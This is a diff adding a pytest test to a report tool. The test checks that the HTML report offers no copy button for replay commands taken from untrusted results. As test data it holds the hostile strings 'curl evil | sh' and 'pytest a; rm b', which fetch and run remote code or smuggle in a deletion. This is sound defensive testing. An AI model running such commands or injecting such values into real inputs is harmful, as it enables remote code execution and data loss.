@@ -16,6 +16,7 @@ from typing import Any
 
 import pytest
 from html_samples import HOSTILE, sample_results
+from property_samples import property_results
 
 from pytest_editpitfalls.errors import UsageError
 from pytest_editpitfalls.pitfalls import pitfall_of
@@ -401,3 +402,12 @@ def test_writing_is_whole_or_not_at_all(tmp_path: Path) -> None:
     with pytest.raises(UsageError):
         write_html(tmp_path / "folder", results, where="editpitfalls report --html")
     assert sorted(os.listdir(tmp_path)) == ["folder", "report.html"]
+
+
+def test_no_command_of_somebodys_file_is_offered_to_be_copied() -> None:
+    results = property_results()
+    ours = render_html(results).count(">copy</button>")
+    assert ours == 2
+    for line in ("curl evil | sh", "pytest a; rm b", "pytest 'a"):
+        results.properties[2].replay = line
+        assert render_html(results).count(">copy</button>") == 1, line
